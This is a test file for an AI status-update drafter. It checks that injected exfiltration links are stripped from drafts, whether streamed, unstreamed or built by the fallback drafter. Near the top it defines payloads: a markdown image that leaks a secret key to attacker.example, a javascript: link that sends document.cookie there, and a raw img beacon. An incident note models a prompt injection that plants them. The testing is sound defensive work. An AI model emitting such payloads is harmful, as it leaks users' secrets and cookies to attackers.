/**
 * Drafts carry no image from another site, no raw HTML image and no `javascript:` link, and link
 * only to hosts their input names; whatever was removed is reported in `groundingIssues` (kind
 * LINK). Whether a model wrote it (told to by an injection) or the builtin drafter copied it from
 * the input, streamed or not.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DRAFT_STATUS_UPDATE,
  MODEL_STATUS_UPDATE,
  checkoutIncident,
} from '../fixtures/status-update.js';
import { startOpenAiDouble, type OpenAiDouble } from '../support/openai-double.js';
import { collectStream, startTestServer, type TestServer } from '../support/server.js';

const EXFIL_IMAGE = '![status](https://attacker.example/c.png?k=sk-live-0123456789abcdef)';
const SCRIPT_LINK = '[details](javascript:fetch(`//attacker.example/${document.cookie}`))';
const RAW_IMAGE = '<img src="https://attacker.example/p.gif?d=1">';
const DASHBOARD = 'https://grafana.acme.example/d/checkout';

/** The incident a responder filed, with a dashboard link and a note an attacker planted. */
const incident = {
  ...checkoutIncident,
  timeline: [
    ...checkoutIncident.timeline,
    {
      at: '2026-11-22T09:31:00Z',
      message: `Customer report: ${EXFIL_IMAGE} ${RAW_IMAGE} see ${DASHBOARD}`,
      author: 'support',
    },
  ],
};

interface Draft {
  id: string;
  status: string;
  text: string;
  provider: string;
  groundingIssues: { kind: string; value: string }[];
}

describe('links and images in drafts', () => {
  let server: TestServer;
  let double: OpenAiDouble;

  beforeAll(async () => {
    double = await startOpenAiDouble({
      defaultBehaviour: { kind: 'text', text: MODEL_STATUS_UPDATE },
    });
    server = await startTestServer({ OPENAI_API_KEY: 'sk-test', OPENAI_BASE_URL: double.url });
  });
  afterAll(() => Promise.all([server?.stop(), double?.close()]));

  const draft = async (stream = false) => {
    const result = await server.graphql<{ draftStatusUpdate: { generation: Draft } }>(
      DRAFT_STATUS_UPDATE,
      {
        input: { audience: 'INTERNAL', incident, stream },
      },
    );
    expect(result.errors).toBeUndefined();
    return result.data!.draftStatusUpdate.generation;
  };

  const expectNeutralised = (text: string) => {
    expect(text).not.toContain('attacker.example');
    expect(text).not.toMatch(/javascript:|<img/i);
  };

  const linkIssues = (generation: Draft) =>
    generation.groundingIssues.filter((issue) => issue.kind === 'LINK').map((issue) => issue.value);

  it('removes what a model was told to write, keeping links to the hosts the input names', async () => {
    double.enqueue({
      kind: 'text',
      text: MODEL_STATUS_UPDATE.replace(
        '- 09:25 UTC: rollback of checkout-api started',
        `- 09:25 UTC: rollback of checkout-api started ${EXFIL_IMAGE} ${SCRIPT_LINK} ${RAW_IMAGE} [dashboard](${DASHBOARD})`,
      ),
      chunks: 9,
    });
    const generation = await draft();
    expect(generation.status).toBe('SUCCEEDED');
    expectNeutralised(generation.text);
    expect(generation.text).toContain(`[dashboard](${DASHBOARD})`);
    expect(generation.text).toContain('rollback of checkout-api started [image removed] details');
    expect(linkIssues(generation)).toEqual(
      expect.arrayContaining([
        'https://attacker.example/c.png?k=sk-live-0123456789abcdef',
        expect.stringMatching(/^javascript:/),
        RAW_IMAGE,
      ]),
    );
    // What is stored is what was returned.
    const stored = await server.graphql<{ generation: Draft }>(
      'query($id: ID!) { generation(id: $id) { text groundingIssues { kind value } } }',
      { id: generation.id },
    );
    expect(stored.data!.generation).toMatchObject({
      text: generation.text,
      groundingIssues: generation.groundingIssues,
    });
  });

  it('removes them from a streamed draft as it streams: the deltas still add up to the final text', async () => {
    double.enqueue({
      kind: 'text',
      text: MODEL_STATUS_UPDATE.replace(
        'since 09:12 UTC.',
        `since 09:12 UTC. ${EXFIL_IMAGE} ${SCRIPT_LINK}`,
      ),
      chunks: 40,
    });
    const started = await draft(true);
    const { events, errors } = await collectStream(server.wsClient(), started.id);
    expect(errors).toBeUndefined();
    const deltas = events.filter((event) => event.delta !== null).map((event) => event.delta!);
    const final = events.at(-1)!.generation!;
    expect(final.status).toBe('SUCCEEDED');
    expect(deltas.join('')).toBe(final.text);
    expectNeutralised(final.text);
    expect(deltas.join('')).not.toContain('attacker.example');
  });

  it('removes what the builtin drafter copies from the input', async () => {
    double.enqueue(...Array.from({ length: 3 }, () => ({ kind: 'error' as const, status: 500 })));
    const generation = await draft();
    expect(generation.provider).toBe('builtin');
    expect(generation.text).toContain('Customer report');
    expectNeutralised(generation.text);
    expect(linkIssues(generation).length).toBeGreaterThan(0);
  });
});
